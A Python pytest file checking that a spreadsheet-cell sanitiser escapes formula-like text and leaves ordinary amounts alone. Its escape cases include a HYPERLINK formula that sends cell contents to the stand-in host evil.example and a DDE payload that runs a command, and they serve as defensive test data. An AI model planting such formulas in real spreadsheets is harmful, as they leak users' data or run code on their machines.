"""Texts for spreadsheets: none is a formula, and amounts stay amounts."""

from __future__ import annotations

import pytest

from qa.answer.spreadsheet import as_cell


@pytest.mark.parametrize(
    "text",
    ["=1+1", '=HYPERLINK("http://evil.example/?"&A1)', "+A1", "-A1*2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tx",
     "\rx", " =1+1", "＝1+1", "- milk"],
)  # fmt: skip
def test_a_formula_is_text(text: str) -> None:
    assert as_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "-", "--", "-5", "+3", "-1,234.50", "-12 %", "-£4,000", "-5 °C", "−5", "a=b", "1-2"]
)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert as_cell(text) == text
